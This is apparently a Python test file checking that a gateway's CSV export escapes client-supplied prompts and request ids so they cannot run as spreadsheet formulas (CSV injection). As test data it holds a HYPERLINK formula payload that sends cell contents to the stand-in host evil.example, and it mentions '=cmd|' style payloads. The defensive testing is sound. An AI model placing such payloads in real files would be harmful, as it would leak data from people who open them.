"""``turnout router export --out rows.csv`` must not write a client's text as a spreadsheet
formula (CSV injection).

The prompt and the request id of an exported row are what a client sent. Before, they were
written to the CSV as sent, so a prompt ``=HYPERLINK(...)`` (or ``=cmd|...``, ``@SUM(...)``)
ran as a formula in the spreadsheet of whoever opened the export. Now such a cell starts with
``'`` in CSV only; the JSON lines export keeps the text exactly, and ``train``/``eval`` reading
the CSV get the text back. Real gateway and mock provider, the OpenAI SDK as the client,
``turnout router export`` as a subprocess.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import httpx
import openai
import pytest

from tests.support.procs import Proc, mock_provider, start_gateway
from tests.support.wait import until
from turnout.router.dataset import read_rows

pytestmark = pytest.mark.timeout(180)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
RID = "=2+5"  # a client may choose its request id (within [A-Za-z0-9._:/@+=-])


def _export(tmp_path: Path, out: str) -> None:
    config_path = next(tmp_path.glob("turnout-*.yaml"))
    exported = subprocess.run(
        [sys.executable, "-m", "turnout.cli.main", "router", "export", "-c", str(config_path),
         "--model", "gpt-test", "--unlabelled", "--out", out],
        cwd=tmp_path, capture_output=True, text=True, timeout=120,
        env={**os.environ, "PYTHONUNBUFFERED": "1"},
    )  # fmt: skip
    assert exported.returncode == 0, exported.stdout + exported.stderr


def test_a_prompt_spelling_a_formula_is_exported_as_text(mock: Proc, tmp_path: Path) -> None:
    config = {
        "providers": {"mock": mock_provider(mock)},
        "models": {"gpt-test": {"deployments": [{"provider": "mock", "model": "up"}]}},
        "capture": {"enabled": True, "dir": "captures", "models": ["gpt-test"]},
        "storage": {"flush_interval": 0.05},
    }
    gw = start_gateway(config, tmp_path)
    try:
        client = openai.OpenAI(base_url=gw.url + "/v1", api_key="k", max_retries=0)
        client.chat.completions.create(
            model="gpt-test",
            messages=[{"role": "user", "content": FORMULA}],
            extra_headers={"x-request-id": RID},
        )
        until(lambda: httpx.get(gw.url + "/admin/logs", params={"request_id": RID}).json()["rows"])
    finally:
        gw.stop()
    _export(tmp_path, "rows.csv")
    _export(tmp_path, "rows.jsonl")
    with (tmp_path / "rows.csv").open(newline="", encoding="utf-8") as f:
        (cells,) = list(csv.DictReader(f))
    assert cells["prompt"].startswith("'=") and FORMULA in cells["prompt"]
    assert cells["request_id"] == "'" + RID
    assert cells["deployment"] == "mock/up"  # a cell that runs nothing is left as it is
    (line,) = (tmp_path / "rows.jsonl").read_text().splitlines()
    row = json.loads(line)
    assert row["request_id"] == RID and row["prompt"].startswith("=")  # JSON: exact
    (back,) = read_rows(tmp_path / "rows.csv")
    assert back["prompt"] == row["prompt"] and back["request_id"] == RID
